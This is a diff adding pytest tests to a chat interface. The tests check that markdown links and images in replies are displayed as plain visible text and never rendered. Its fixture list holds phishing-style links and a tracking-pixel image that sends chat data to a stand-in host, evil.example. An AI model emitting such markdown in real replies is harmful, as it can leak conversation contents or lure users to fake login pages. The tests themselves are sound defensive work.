@@ -157,3 +157,32 @@ def test_page_end_to_end_with_gradio_client(server, store):
     client.predict(api_name="/new_chat")
     client.predict("Hi", 8, 1.0, "", api_name="/chat")
     assert store.counts()["conversations"] == 2
+
+
+LINKS = [
+    "[your account](https://evil.example/login)",
+    "![status](https://evil.example/pixel.png?chat=secret)",
+    "[your account][1]\n\n[1]: https://evil.example/login",
+    "[your account][]\n\n[your account]: https://evil.example/login",
+    "[your account]\n\n[your account]: https://evil.example/login 'Your bank'",
+]
+
+
+@pytest.mark.parametrize("text", LINKS)
+def test_markdown_links_in_replies_are_shown_not_followed(text):
+    from markdown_it import MarkdownIt
+
+    state = {**new_state(), "turns": [{"user": text, "shown": 0,
+                                       "replies": [{"id": "r", "text": text, "version": "v0"}]}]}
+    markdown = MarkdownIt("commonmark")
+    raw = markdown.render(text)
+    assert raw.count("<a ") + raw.count("<img") == 1  # as written, a hidden link
+    for message in display(state):
+        shown = markdown.render(message["content"])
+        assert "<a " not in shown and "<img" not in shown, shown
+        assert "evil.example" in shown  # the address stays visible
+
+
+def test_text_without_links_is_shown_unchanged():
+    text = "a[0] = b[1]; see [note] and (this): done"
+    assert display({**new_state(), "turns": [{"user": text, "shown": 0, "replies": []}]})[0]["content"] == text
